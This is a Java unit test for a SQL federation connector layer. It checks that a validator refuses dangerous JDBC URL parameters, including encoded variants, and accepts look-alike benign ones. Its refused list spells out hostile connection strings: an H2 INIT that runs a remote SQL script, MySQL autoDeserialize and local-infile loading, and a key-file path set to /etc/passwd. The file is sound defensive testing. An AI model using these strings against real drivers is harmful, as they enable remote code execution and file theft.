package com.catalyst2sql.federation.connectors;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;

import com.catalyst2sql.dialect.errors.SparkSqlException;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What would have a driver run code or read files is refused, however its URL spells it; what is alike is not. */
class RefusedParametersTest {

  private static final List<Connector> CONNECTORS =
      List.of(
          new PostgreSqlConnector(),
          new MySqlConnector(),
          new SqliteConnector(),
          new H2Connector(),
          new DuckDbConnector(),
          new GenericConnector());

  private static void check(Map<String, String> options) {
    SourceConfig config = SourceConfig.of("far", options);
    Connector connector =
        CONNECTORS.stream().filter(c -> c.accepts(config.url())).findFirst().orElseThrow();
    RefusedParameters.check(config, connector);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://h/d?socketFactory=org.example.Evil&socketFactoryArg=http://x",
        "jdbc:postgresql://h/d?ssl=true&SSLFACTORY=x",
        "jdbc:postgresql://h/d?loggerLevel=DEBUG&loggerFile=/tmp/x.jsp",
        "jdbc:mysql://h/d?allowLoadLocalInfile=true",
        "jdbc:mysql://h/d?autoDeserialize",
        "jdbc:mysql://h/d?allow%4coadLocalInfile=true",
        "jdbc:mysql://h/d?a=b&queryInterceptors%3dx",
        "jdbc:mysql://address=(host=h)(port=3306)(allowLoadLocalInfile=true)/d",
        "jdbc:mysql://(host=h,port=3306,autoDeserialize=true)/d",
        "jdbc:mysql+srv://h/d?autoDeserialize=true",
        "jdbc:mysq%6c://h/d?autoDeserialize=true",
        "jdbc:mariadb://h/d?allowLocalInfile=true",
        "jdbc:mariadb://h/d?serverRsaPublicKeyFile=/etc/passwd",
        "jdbc:sqlite:/x.db?enable_load_extension=true",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x/y.sql'",
        "jdbc:h2:mem:x;I\\NIT=RUNSCRIPT FROM 'http://x/y.sql'",
        "jdbc:h2:mem:x; init =x",
        "jdbc:duckdb:/x.duckdb;session_init_sql_file=/tmp/x.sql",
        "jdbc:db2://h:50000/d:clientRerouteServerListJNDIName=ldap://x/y;",
        "jdbc:sqlserver://h;socketFactoryClass=x",
        "jdbc:calcite:model=inline:{}"
      })
  void refused(String url) {
    SparkSqlException e =
        assertThrows(
            SparkSqlException.class, () -> check(Map.of("url", url, "password", "topsecret")));
    assertEquals("C2S.UNSAFE_SOURCE_PARAMETER", e.errorClass());
    assertEquals("42501", e.sqlState());
    assertFalse(e.getMessage().contains("topsecret"), e.getMessage());
  }

  @Test
  void alsoAsAnOption() {
    Map<String, String> options = Map.of("url", "jdbc:postgresql://h/d", "socketFactory", "x");
    assertEquals(
        "C2S.UNSAFE_SOURCE_PARAMETER",
        assertThrows(SparkSqlException.class, () -> check(options)).errorClass());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://h/d?user=x&ssl=true&sslmode=require&ApplicationName=my%20init",
        "jdbc:postgresql://h/socketfactory",
        "jdbc:mysql://h/d?useSSL=true&socketTimeout=1000",
        "jdbc:mysql://h/d?sessionVariables=sql_mode='100%'",
        "jdbc:mariadb://h/d?localSocket=/run/x.sock",
        "jdbc:h2:mem:init",
        "jdbc:h2:/data/init;IFEXISTS=TRUE;MODE=PostgreSQL",
        "jdbc:duckdb:/x.duckdb;threads=2",
        "jdbc:oracle:thin:@//h:1521/model",
        "jdbc:sqlserver://h;databaseName=x;encrypt=true"
      })
  void taken(String url) {
    assertDoesNotThrow(() -> check(Map.of("url", url)));
  }
}
